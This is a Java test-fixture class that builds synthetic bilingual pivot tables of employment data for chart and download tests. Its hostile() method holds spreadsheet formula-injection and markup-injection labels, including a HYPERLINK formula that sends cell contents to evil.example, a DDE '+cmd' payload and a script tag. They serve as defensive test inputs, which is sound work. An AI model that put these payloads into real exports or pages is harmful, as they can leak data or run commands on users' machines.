package ca.lipworkbench.workbench.charts;

import ca.lipworkbench.engine.geography.Area;
import ca.lipworkbench.engine.pivot.PivotSpec;
import ca.lipworkbench.engine.pivot.PivotTable;
import ca.lipworkbench.engine.pivot.PivotTable.Header;
import ca.lipworkbench.engine.pivot.PivotTable.Member;
import ca.lipworkbench.engine.statistics.Additivity;
import ca.lipworkbench.engine.statistics.Cell;
import ca.lipworkbench.engine.statistics.Coverage;
import ca.lipworkbench.engine.statistics.Derivation;
import ca.lipworkbench.engine.statistics.Interval;
import ca.lipworkbench.engine.statistics.Intervals;
import ca.lipworkbench.engine.statistics.ObservationStatus;
import ca.lipworkbench.engine.statistics.Refusal;
import ca.lipworkbench.engine.statistics.RoundingModel;
import ca.lipworkbench.engine.statistics.StatusSet;
import ca.lipworkbench.engine.table.DataStructure;
import ca.lipworkbench.engine.table.Measure;
import ca.lipworkbench.engine.table.Ratio;
import ca.lipworkbench.engine.table.Source;
import ca.lipworkbench.engine.table.TableName;
import ca.lipworkbench.engine.table.Unit;
import ca.lipworkbench.engine.text.BilingualText;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.OptionalDouble;
import java.util.OptionalInt;
import java.util.function.BiFunction;

/** Pivot tables with made-up numbers, of every shape that charts and downloads have to do with. */
public final class Tables {
  /** The areas of {@link Figures}, for other packages. */
  public static final List<Area> AREAS = Figures.ALL;

  public static final Measure RATE =
      measure("employment-rate", "Employment rate", "Taux d’emploi", Unit.PER_CENT, 1);
  public static final Measure COUNT =
      measure("employed", "Employed", "Personnes occupées", Unit.PERSONS, 0);
  public static final Measure MEDIAN =
      measure("median-income", "Median income", "Revenu médian", Unit.DOLLARS, 0);

  private static final List<Member> GROUPS =
      List.of(
          new Member("population-group", "total", text("Everyone", "Ensemble"), 0),
          new Member(
              "population-group", "non-immigrants", text("Non-immigrants", "Non-immigrants"), 1),
          new Member("population-group", "immigrants", text("Immigrants", "Immigrants"), 1),
          new Member(
              "population-group",
              "recent-immigrants",
              text("Recent immigrants", "Immigrants récents"),
              2),
          new Member(
              "population-group",
              "non-permanent-residents",
              text("Non-permanent residents", "Résidents non permanents"),
              1));

  private static final List<Member> GENDERS =
      List.of(
          new Member("gender", "total", text("Total - Gender", "Total - Genre"), 0),
          new Member("gender", "men", text("Men+", "Hommes+"), 1),
          new Member("gender", "women", text("Women+", "Femmes+"), 1));

  private Tables() {}

  private static BilingualText text(String english, String french) {
    return BilingualText.of(english, french);
  }

  /** Rates of five groups for four areas, one suppressed, one refused, one not available. */
  public static PivotTable groupsByArea() {
    double[][] rates = {
      {78.43, 75.1, 75.8, 76.6},
      {79.02, 75.5, 76, 78.3},
      {75.58, 72.6, 73.6, 74.4},
      {74.19, 69.8, 71, 68.1},
      {Double.NaN, 66.7, Double.NaN, 70.2}
    };
    return table(
        GROUPS,
        areas(Figures.SHOWN),
        List.of(RATE),
        Figures.SHOWN,
        (row, column) -> {
          double value = rates[row][column];
          if (Double.isNaN(value)) {
            return column == 0 ? suppressed() : none(ObservationStatus.NOT_AVAILABLE);
          }
          return rate(value, (1 + row) / (1.0 + 2 * column), column == 0);
        });
  }

  /** Counts of five groups for one area. */
  public static PivotTable groupsOfOneArea() {
    double[] counts = {62_480, 51_205, 8_340, 2_915, 0};
    return table(
        GROUPS,
        areas(List.of(Figures.MONCTON)),
        List.of(COUNT),
        List.of(Figures.MONCTON),
        (row, column) -> count(counts[row]));
  }

  /** Rates of five groups and three genders for one area. */
  public static PivotTable groupsByGender() {
    return table(
        GROUPS,
        GENDERS,
        List.of(RATE),
        List.of(Figures.MONCTON),
        (row, column) -> rate(78 - 3.1 * row + 2.7 * (column - 1), 1 + row, false));
  }

  /** Counts of one group for ten partnerships, in no order of size. */
  public static PivotTable manyAreas() {
    List<Area> areas = new ArrayList<>();
    for (int index = 0; index < 10; index++) {
      areas.add(
          Figures.area(
              "NB-place-" + index,
              ca.lipworkbench.engine.geography.GeographicLevel.PARTNERSHIP,
              "Partnership of the Long Valley " + (index + 1),
              "Partenariat de la Longue-Vallée " + (index + 1)));
    }
    return table(
        areas(areas),
        List.of(GROUPS.get(3)),
        List.of(COUNT),
        areas,
        (row, column) -> row == 4 ? lowerBound(1_200) : count(500 + (row * 733) % 2_600));
  }

  /** Rates of two groups for ten partnerships. */
  public static PivotTable manyAreasByGroup() {
    PivotTable many = manyAreas();
    return table(
        GROUPS.subList(2, 4),
        areas(many.areas()),
        List.of(RATE),
        many.areas(),
        (row, column) -> rate(60 + ((column * 7 + row * 3) % 20), 1.2, false));
  }

  /** Rates over census years for four areas, and two groups. */
  public static PivotTable overTime(String... years) {
    List<Member> periods = new ArrayList<>();
    for (String year : years) {
      periods.add(new Member(DataStructure.PERIOD, year, text(year, year), 0));
    }
    return table(
        crossed(GROUPS.subList(2, 4), periods),
        List.of("population-group", DataStructure.PERIOD),
        areas(Figures.SHOWN),
        List.of(DataStructure.AREA),
        List.of(RATE),
        Figures.SHOWN,
        List.of(years),
        (row, column) ->
            row == 1 && column == 0
                ? suppressed()
                : rate(62 + row * 1.7 + column * 1.1, 0.9, column == 0));
  }

  /** Counts by age and gender, with their totals, for two areas. */
  public static PivotTable agesByGender() {
    List<Member> ages = new ArrayList<>();
    ages.add(new Member("age-group", "total", text("Total - Age", "Total - Âge"), 0));
    for (int age = 0; age < 85; age += 5) {
      ages.add(
          new Member(
              "age-group",
              "age-" + age,
              text(age + " to " + (age + 4) + " years", age + " à " + (age + 4) + " ans"),
              1));
    }
    ages.add(new Member("age-group", "age-85", text("85 years and over", "85 ans et plus"), 1));
    List<Area> areas = List.of(Figures.MONCTON, Figures.HALIFAX);
    return table(
        ages,
        List.of("age-group"),
        crossed(areas(areas), GENDERS),
        List.of(DataStructure.AREA, "gender"),
        List.of(COUNT),
        areas,
        List.of("2021"),
        (row, column) ->
            row == 17 && column == 1
                ? suppressed()
                : count(5.0 * (1_200 - row * 52 + (row % 4) * 82 - column * 14)));
  }

  /** A rate and a median, which no axis can share. */
  public static PivotTable twoUnits() {
    List<Member> measures =
        List.of(
            new Member(DataStructure.MEASURE, RATE.code(), RATE.name(), 0),
            new Member(DataStructure.MEASURE, MEDIAN.code(), MEDIAN.name(), 0));
    return table(
        areas(Figures.SHOWN),
        measures,
        List.of(RATE, MEDIAN),
        Figures.SHOWN,
        (row, column) ->
            column == 0
                ? rate(74 - row, 0.8, false)
                : row == 0 || row == 2 ? median(34_200 + row, 40_600) : published(38_400 + row));
  }

  /** Labels that a spreadsheet would run, a page would read as markup, or a file could not hold. */
  public static PivotTable hostile() {
    List<String> labels =
        List.of(
            "=HYPERLINK(\"http://evil.example/?\"&A1)",
            "+cmd|'/c calc'!A1",
            "-2+3",
            "@SUM(A1:A9)",
            "\tTAB",
            "<script>alert(1)</script> & \"quotes\"",
            "\uff1d1+1",
            "Line one\nline two; with, all \"of\" it",
            "NUL \u0000 and \ud800 alone");
    List<Member> rows = new ArrayList<>();
    for (int index = 0; index < labels.size(); index++) {
      rows.add(new Member("group", "g" + index, text(labels.get(index), labels.get(index)), 0));
    }
    return table(
        rows,
        areas(List.of(Figures.MONCTON)),
        List.of(COUNT),
        List.of(Figures.MONCTON),
        (row, column) -> count(row == 2 ? -15 : 5 * row));
  }

  private static List<Member> areas(List<Area> areas) {
    return areas.stream()
        .map(area -> new Member(DataStructure.AREA, area.id().value(), area.name(), 0))
        .toList();
  }

  private static List<Header> crossed(List<Member> outer, List<Member> inner) {
    List<Header> headers = new ArrayList<>();
    for (Member first : outer) {
      for (Member second : inner) {
        headers.add(new Header(List.of(first, second)));
      }
    }
    return headers;
  }

  private static PivotTable table(
      List<Member> rows,
      List<Member> columns,
      List<Measure> measures,
      List<Area> areas,
      BiFunction<Integer, Integer, Cell> cell) {
    return table(
        rows,
        List.of(rows.getFirst().dimension()),
        columns,
        List.of(columns.getFirst().dimension()),
        measures,
        areas,
        List.of("2021"),
        cell);
  }

  private static PivotTable table(
      List<?> rows,
      List<String> rowDimensions,
      List<?> columns,
      List<String> columnDimensions,
      List<Measure> measures,
      List<Area> areas,
      List<String> periods,
      BiFunction<Integer, Integer, Cell> cell) {
    List<Header> rowHeaders = headers(rows);
    List<Header> columnHeaders = headers(columns);
    List<List<Cell>> cells = new ArrayList<>();
    for (int row = 0; row < rowHeaders.size(); row++) {
      List<Cell> line = new ArrayList<>();
      for (int column = 0; column < columnHeaders.size(); column++) {
        line.add(cell.apply(row, column));
      }
      cells.add(line);
    }
    PivotSpec spec =
        new PivotSpec(
            new TableName("demo-employment"),
            rowDimensions,
            columnDimensions,
            measures.stream().map(Measure::code).toList(),
            areas.stream().map(Area::id).toList(),
            periods,
            Map.of());
    Source source =
        new Source(
            text("Agency", "Organisme"),
            text("Product", "Produit"),
            "2021",
            text("Source: made-up numbers.", "Source : chiffres inventés."),
            text("Adapted from made-up numbers.", "Adapté de chiffres inventés."),
            Source.Nature.SYNTHETIC);
    return new PivotTable(
        spec,
        spec.table(),
        text("Employment of newcomers", "Emploi des nouveaux arrivants"),
        3,
        source,
        Optional.of(text("on 2021 boundaries", "selon les limites de 2021")),
        rowHeaders,
        columnHeaders,
        cells,
        areas,
        measures,
        Map.of("7", text("Census week in the pandemic.", "Semaine du recensement en pandémie.")),
        List.of(
            new PivotTable.Remark.OnlyCode(
                "age", text("Age", "Âge"), "25-64", text("25 to 64", "25 à 64 ans"))));
  }

  private static List<Header> headers(List<?> given) {
    return given.stream()
        .map(one -> one instanceof Header header ? header : new Header(List.of((Member) one)))
        .toList();
  }

  private static Measure measure(
      String code, String english, String french, Unit unit, int decimals) {
    boolean rate = unit == Unit.PER_CENT;
    return new Measure(
        code,
        text(english, french),
        Optional.empty(),
        rate ? Measure.Presence.DERIVED : Measure.Presence.PUBLISHED,
        switch (unit) {
          case PER_CENT -> Additivity.RATE;
          case DOLLARS -> Additivity.QUANTILE;
          default -> Additivity.COUNT;
        },
        RoundingModel.RR5,
        unit,
        text("People 25 to 64 in private households", "Personnes de 25 à 64 ans dans les ménages"),
        decimals,
        rate ? Optional.of(new Ratio("employed", "population", 100)) : Optional.empty(),
        Optional.empty(),
        OptionalInt.empty(),
        List.of());
  }

  private static Cell rate(double value, double half, boolean survey) {
    return new Cell(
        OptionalDouble.of(value),
        StatusSet.NONE,
        List.of("7"),
        new Intervals(
            Optional.of(new Interval(value - half * 1.6, value + half * 1.6)),
            Optional.of(new Interval(value - half, value + half)),
            survey
                ? Optional.of(new Interval(value - half * 2.5, value + half * 2.5))
                : Optional.empty(),
            Intervals.Shown.PROBABLE),
        new Derivation.RatioOfSums(905, 3, 1_290, 3),
        new Coverage(3, 3));
  }

  private static Cell count(double value) {
    return new Cell(
        OptionalDouble.of(value),
        StatusSet.NONE,
        List.of(),
        new Intervals(
            Optional.of(new Interval(Math.max(0, value - 4), Math.max(4, value + 4))),
            Optional.empty(),
            Optional.empty(),
            Intervals.Shown.HARD),
        new Derivation.Published(),
        Coverage.ONE);
  }

  private static Cell lowerBound(double value) {
    return new Cell(
        OptionalDouble.of(value),
        StatusSet.of(ObservationStatus.SUPPRESSED),
        List.of(),
        Intervals.UNKNOWN,
        new Derivation.SumOfCells(2),
        new Coverage(2, 3));
  }

  private static Cell published(double value) {
    return new Cell(
        OptionalDouble.of(value),
        StatusSet.of(ObservationStatus.USE_WITH_CAUTION),
        List.of(),
        Intervals.UNKNOWN,
        new Derivation.Published(),
        Coverage.ONE);
  }

  private static Cell suppressed() {
    return new Cell(
        OptionalDouble.empty(),
        StatusSet.of(ObservationStatus.SUPPRESSED),
        List.of(),
        Intervals.UNKNOWN,
        new Derivation.Refused(
            new Refusal(
                Refusal.Reason.SUPPRESSED_PART,
                List.of("Rate", "Taux", "Greater Moncton", "Grand Moncton", "2", "3"),
                Optional.empty())),
        new Coverage(2, 3));
  }

  private static Cell none(ObservationStatus status) {
    return new Cell(
        OptionalDouble.empty(),
        StatusSet.of(status),
        List.of(),
        Intervals.UNKNOWN,
        new Derivation.Published(),
        new Coverage(0, 1));
  }

  private static Cell median(double low, double high) {
    return new Cell(
        OptionalDouble.empty(),
        StatusSet.NONE,
        List.of(),
        Intervals.UNKNOWN,
        new Derivation.Refused(
            new Refusal(
                Refusal.Reason.NON_ADDITIVE_QUANTILE,
                List.of("Median income", "Revenu médian", "Atlantic", "Atlantique"),
                Optional.of(new Refusal.Offer.RangeOfParts(new Interval(low, high), 3)))),
        new Coverage(0, 1));
  }
}
